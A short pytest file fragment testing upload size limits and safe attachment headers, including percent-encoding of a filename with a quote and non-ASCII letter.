def test_many_small_files_count_together(settings: Any) -> None:
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1000
    first, second, third = posted(b"x" * 600, b"x" * 600, b"x").FILES.getlist("file")
    assert first.read() == b"x" * 600
    assert isinstance(second, TooLargeUpload)
    assert isinstance(third, TooLargeUpload)


def test_more_than_the_limit_is_refused_wherever_it_comes_from(settings: Any) -> None:
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 1000
    with pytest.raises(UploadRefusedError, match="too_large"):
        upload_clean(b"x" * 1001, "x.txt")
    assert upload_clean(b"x" * 1000, "x.txt").content


def test_a_file_goes_out_to_be_saved_and_never_to_be_shown() -> None:
    response = attachment_response(content=b"x", name='Ži"ga.pdf', media_type="application/pdf")
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%C5%BDi%22ga.pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
